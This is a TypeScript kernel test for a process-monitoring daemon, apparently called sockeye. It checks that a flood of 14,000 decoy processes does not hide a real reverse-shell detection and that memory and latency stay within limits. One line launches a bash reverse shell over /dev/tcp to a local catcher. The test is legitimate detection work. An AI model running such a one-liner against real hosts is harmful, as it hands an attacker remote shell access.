/**
 * A decoy flood cannot bury a real detection (issue 25): 14,000 processes each dup a loopback
 * socket onto fd 0 and linger, more than TRC-101's precise profile can hold (4,096 processes),
 * so it lets the oldest go as `held_past_bound`. Those are folded into one SENSOR-001 per
 * window instead of thousands of findings, while a real reverse shell started in the middle
 * is still reported within a second, the daemon stays under 256 MB and its event loop's p99
 * delay under 50 ms.
 */
import { spawn, spawnSync, type ChildProcess } from "node:child_process";
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { afterEach, describe, expect, it } from "vitest";
import { kernelTier, peakRssMb, run, startDaemon, tcpListener } from "./harness.js";

const tier = kernelTier();
const DECOYS = 14_000;
const SOURCE = new URL("./helpers/stdio-decoys.c", import.meta.url).pathname;

interface FindingJson {
  "@timestamp": string;
  event: { kind: string; created: string };
  rule: { id: string; severity: string };
  destination?: { port: number };
  sockeye: { coverage?: { lost: Record<string, Record<string, number>>; total: number; samples?: unknown[] }; verdict?: { reason: string } };
}

describe.runIf(tier.run)("kernel: a decoy flood cannot bury a real detection", () => {
  const children: ChildProcess[] = [];
  afterEach(() => {
    for (const child of children.splice(0)) {
      if (child.exitCode !== null || child.signalCode !== null) continue;
      // The decoys are one process group; the daemon is killed alone.
      try {
        process.kill(-child.pid!, "SIGKILL");
      } catch {
        child.kill("SIGKILL");
      }
    }
  });

  it(`${DECOYS} lingering decoys: the reverse shell in the middle reported within 1 s, one SENSOR-001 per window for the rest, RSS under 256 MB, event loop p99 under 50 ms`, async () => {
    const helper = join(mkdtempSync(join(tmpdir(), "sockeye-decoys-")), "stdio-decoys");
    const cc = spawnSync("cc", ["-O2", "-o", helper, SOURCE], { encoding: "utf8" });
    if (cc.status !== 0) throw new Error(`cannot build the decoy helper with cc: ${cc.error?.message ?? cc.stderr}`);

    const daemon = startDaemon(["--format", "json", "--prometheus", "127.0.0.1:0"]);
    children.push(daemon.child);
    await daemon.ready;

    const catcher = await tcpListener("127.0.0.1", "exit\n");
    const decoys = spawn(helper, [String(DECOYS), "9"], { stdio: ["ignore", "pipe", "inherit"] });
    children.push(decoys);
    const decoyLines = createInterface({ input: decoys.stdout });
    const reached = (word: string) => new Promise<void>((resolve) => decoyLines.on("line", (line) => line === word && resolve()));
    const half = reached("half");
    const ready = reached("ready");

    await half;
    const shellStartedMs = Date.now();
    await run("timeout", ["-s", "KILL", "5", "bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${catcher.port} 0>&1`]);
    await ready;
    await new Promise((resolve) => setTimeout(resolve, 2000));
    const rssMb = peakRssMb(daemon.child.pid!);
    // prom-client's event loop delay histogram, over the whole run (this is its first scrape).
    const metricsUrl = /"metrics":"(http:[^"]+)"/.exec(daemon.stderr())![1]!;
    const metrics = await (await fetch(metricsUrl)).text();
    const lagP99Ms = Number(/^sockeye_nodejs_eventloop_lag_p99_seconds (\S+)$/m.exec(metrics)![1]) * 1000;

    await daemon.stop();
    await catcher.close();
    const findings = daemon.findings<FindingJson>();

    const shell = findings.find(({ finding }) => finding.rule.id === "TRC-101" && finding.destination?.port === catcher.port && finding.sockeye.verdict?.reason !== "held_past_bound");
    expect(shell, "the real reverse shell's finding").toBeDefined();
    const delayMs = shell!.receivedMs - shellStartedMs;
    const coverage = findings.filter(({ finding }) => finding.rule.id === "SENSOR-001").map(({ finding }) => finding);
    const heldPastBound = coverage.reduce((sum, finding) => sum + (finding.sockeye.coverage?.lost["rule/TRC-101"]?.held_past_bound ?? 0), 0);
    const decoyFindings = findings.filter(({ finding }) => finding.rule.id === "TRC-101" && finding.destination?.port === 9);
    console.log(JSON.stringify({ decoys: DECOYS, shellDelayMs: delayMs, sensor001: coverage.length, heldPastBound, decoyFindings: decoyFindings.length, peakRssMb: Math.round(rssMb), lagP99Ms: Math.round(lagP99Ms) }));

    expect(delayMs).toBeLessThan(1000);
    expect(coverage.length).toBeGreaterThanOrEqual(1);
    expect(coverage[0]).toMatchObject({ event: { kind: "alert" }, rule: { id: "SENSOR-001", severity: "low" } });
    // 14,000 decoys, at most 4,096 held: the rest were let go, and counted, not reported one by one.
    expect(heldPastBound).toBeGreaterThan(DECOYS - 4096 - 500);
    expect(decoyFindings).toEqual([]);
    expect(rssMb).toBeLessThan(256);
    expect(lagP99Ms).toBeLessThan(50);
  }, 120_000);
});
